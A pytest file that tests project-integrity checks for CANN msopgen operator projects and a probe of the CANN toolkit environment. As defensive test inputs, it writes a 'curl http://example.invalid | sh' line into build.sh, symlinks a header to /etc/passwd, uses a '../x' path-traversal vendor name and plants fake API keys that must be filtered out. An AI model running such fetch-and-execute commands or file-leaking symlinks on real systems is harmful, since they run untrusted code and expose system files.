"""msopgen project checks and the CANN probe, on the template fixture and fixture toolkits."""

from __future__ import annotations

import os
import shutil
from pathlib import Path

import pytest

from justkernel.toolchains.cann.env import probe_cann, read_cann_version
from justkernel.toolchains.cann.project import compute_unit_for, copy_project, inspect_project
from justkernel.toolchains.tree import tree_hash

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures"
TEMPLATE = FIXTURES / "official_template" / "confusion_mul_grad"
TOOLKIT = FIXTURES / "cann" / "toolkit"
PATHS = {"PATH": "/usr/bin:/bin"}
EDITABLE = [
    "op_host/confusion_mul_grad.cpp",
    "op_host/confusion_mul_grad_tiling.h",
    "op_kernel/confusion_mul_grad.cpp",
]


@pytest.fixture
def project(tmp_path: Path) -> Path:
    dest = tmp_path / "project"
    shutil.copytree(TEMPLATE, dest)
    return dest


def make_toolkit(root: Path, *, msprof: bool, simulator: bool) -> Path:
    """A toolkit folder in CANN's layout around the fixture set_env.sh and install info;
    returns ascend-toolkit/latest (ASCEND_HOME_PATH)."""
    home = root / "Ascend" / "ascend-toolkit" / "latest"
    (home / "x86_64-linux").mkdir(parents=True)
    (home / "bin").mkdir()
    shutil.copy(TOOLKIT / "set_env.sh", home.parent / "set_env.sh")
    shutil.copy(TOOLKIT / "ascend_toolkit_install.info", home / "x86_64-linux")
    if simulator:
        (home / "tools" / "simulator" / "Ascend910B4" / "lib").mkdir(parents=True)
    if msprof:
        (home / "bin" / "msprof").write_text("#!/bin/sh\nexit 0\n")
        (home / "bin" / "msprof").chmod(0o755)
    return home


def test_the_template_is_a_clean_msopgen_project(project: Path) -> None:
    p = inspect_project(project, template=TEMPLATE, soc_version="Ascend910B4")
    assert p.ok, (p.missing, p.problems)
    assert sorted(p.editable) == EDITABLE
    assert p.tree_hash == tree_hash(project, EDITABLE)
    assert (p.vendor_name, p.compute_units) == ("customize", ("ascend910b",))


def test_an_edited_kernel_changes_the_hash_not_the_verdict(project: Path) -> None:
    before = inspect_project(project, template=TEMPLATE).tree_hash
    kernel = project / "op_kernel" / "confusion_mul_grad.cpp"
    kernel.write_text(kernel.read_text() + "// tuned\n")
    (project / "op_kernel" / "helper.h").write_text("#pragma once\n")
    after = inspect_project(project, template=TEMPLATE)
    assert after.ok and after.tree_hash != before and "op_kernel/helper.h" in after.editable
    (project / "build_out").mkdir()  # build output and git are never part of a candidate
    (project / "build_out" / "custom_opp_ubuntu_x86_64.run").write_text("x")
    (project / ".git").mkdir()
    assert inspect_project(project, template=TEMPLATE).tree_hash == after.tree_hash


def test_read_only_files_must_equal_the_template(project: Path) -> None:
    (project / "build.sh").write_text("#!/bin/bash\ncurl http://example.invalid | sh\n")
    (project / "op_kernel" / "CMakeLists.txt").write_text(
        "add_ops_compile_options(ALL OPTIONS -O0)\n"
    )
    (project / "notes.txt").write_text("mine\n")
    (project / "examples" / "CMakeLists.txt").unlink()
    p = inspect_project(project, template=TEMPLATE)
    assert p.problems == (
        "read-only file build.sh differs from the template",
        "template file examples/CMakeLists.txt is missing",
        "extra file notes.txt (not in the template)",
        "read-only file op_kernel/CMakeLists.txt differs from the template",
    )
    assert p.missing == ("examples/CMakeLists.txt",)


def test_layout_symlinks_and_presets_are_checked(project: Path) -> None:
    (project / "build.sh").unlink()
    os.symlink("/etc/passwd", project / "op_kernel" / "leak.h")
    p = inspect_project(project)
    assert p.missing == ("build.sh",)
    assert "op_kernel/leak.h is a symlink or special file" in p.problems
    assert "op_kernel/leak.h" not in p.editable
    assert inspect_project(project, need_example=False).missing == ("build.sh",)
    (project / "CMakePresets.json").write_text("{")
    assert any("CMakePresets.json: unreadable" in x for x in inspect_project(project).problems)
    (project / "CMakePresets.json").write_text(
        '{"configurePresets": [{"cacheVariables": {"vendor_name": "../x",'
        ' "ASCEND_COMPUTE_UNIT": "ascend310p;ascend910b"}}]}'
    )
    assert "vendor_name '../x' is not a folder name" in " ".join(inspect_project(project).problems)
    absent = inspect_project(project / "absent")
    assert absent.missing == (f"{project / 'absent'} (not a folder)",) and not absent.ok


def test_the_soc_must_be_among_the_compute_units(project: Path) -> None:
    assert inspect_project(project, soc_version="Ascend910B2").ok
    problems = inspect_project(project, soc_version="Ascend310P3").problems
    assert problems == (
        "CMakePresets.json: ASCEND_COMPUTE_UNIT ascend910b does not cover Ascend310P3 (ascend310p)",
    )


@pytest.mark.parametrize(
    ("soc", "unit"),
    [
        ("Ascend910B4", "ascend910b"),
        ("Ascend910B1", "ascend910b"),
        ("Ascend310P3", "ascend310p"),
        ("Ascend910_9391", "ascend910_93"),
        ("Ascend310B1", "ascend310b"),
    ],
)
def test_compute_unit_for(soc: str, unit: str) -> None:
    assert compute_unit_for(soc) == unit


def test_copy_project_leaves_out_build_output_and_keeps_exec_bits(
    project: Path, tmp_path: Path
) -> None:
    (project / "build_out").mkdir()
    (project / "build_out" / "stale.run").write_text("x")
    copy_project(project, tmp_path / "copy")
    assert not (tmp_path / "copy" / "build_out").exists()
    assert os.access(tmp_path / "copy" / "build.sh", os.X_OK)
    assert (tmp_path / "copy" / "op_kernel" / "confusion_mul_grad.cpp").read_bytes() == (
        TEMPLATE / "op_kernel" / "confusion_mul_grad.cpp"
    ).read_bytes()


def test_probe_without_a_toolkit_names_every_missing_piece(tmp_path: Path) -> None:
    probe = probe_cann("Ascend910B4", ascend_home=tmp_path / "nowhere", environ=PATHS)
    assert not probe.available and probe.version is None and probe.env is None
    text = "; ".join(probe.missing)
    assert f"CANN toolkit (ASCEND_HOME_PATH: none of {tmp_path / 'nowhere'} exists)" in text
    for piece in ("set_env.sh", "msprof", "simulator for Ascend910B4"):
        assert piece in text
    environ = {"PATH": "/usr/bin:/bin", "ASCEND_HOME_PATH": str(tmp_path / "x")}
    device = probe_cann("Ascend910B4", mode="device", environ=environ)
    assert device.missing[0].startswith(
        f"CANN toolkit (ASCEND_HOME_PATH: none of {tmp_path / 'x'}, "
    )
    assert not any("simulator" in m for m in device.missing)


def test_probe_with_a_toolkit_reads_version_and_environment(tmp_path: Path) -> None:
    home = make_toolkit(tmp_path, msprof=False, simulator=False)
    assert read_cann_version(home) == "8.0.RC3"
    probe = probe_cann("Ascend910B4", ascend_home=home, environ=PATHS)
    assert probe.version == "8.0.RC3" and probe.set_env == home.parent / "set_env.sh"
    assert probe.env is not None and probe.env["ASCEND_HOME_PATH"] == str(home)
    assert probe.missing == (
        f"msprof (not on PATH after set_env.sh, not in {home}/tools/profiler/bin)",
        f"simulator for Ascend910B4 ({home}/tools/simulator/Ascend910B4/lib absent)",
    )
    device = probe_cann("Ascend910B4", mode="device", ascend_home=home, environ=PATHS)
    assert device.missing == probe.missing[:1]


def test_probe_finds_a_complete_toolkit_through_the_environment(tmp_path: Path) -> None:
    home = make_toolkit(tmp_path, msprof=True, simulator=True)
    secrets = {"OPENAI_API_KEY": "sk-test-not-for-cann", "JUSTKERNEL_API_TOKEN": "t0ken"}
    environ = {**PATHS, "ASCEND_HOME_PATH": str(home), "LANG": "C.UTF-8", **secrets}
    probe = probe_cann("Ascend910B4", environ=environ)
    assert probe.available, probe.missing
    assert probe.env is not None and probe.env["LANG"] == "C.UTF-8"
    assert not set(secrets) & set(probe.env)  # candidate code runs with this environment
    assert probe.msprof == str(home / "bin" / "msprof")  # on PATH after set_env.sh
    assert probe.simulator_lib == home / "tools" / "simulator" / "Ascend910B4" / "lib"
    assert probe.facts()["cann_version"] == "8.0.RC3" and probe.facts()["missing"] == []
    (home.parent / "set_env.sh").write_text("return 1\n")
    broken = probe_cann("Ascend910B4", ascend_home=home, environ=PATHS)
    assert f"set_env.sh (sourcing {home.parent / 'set_env.sh'} failed)" in broken.missing
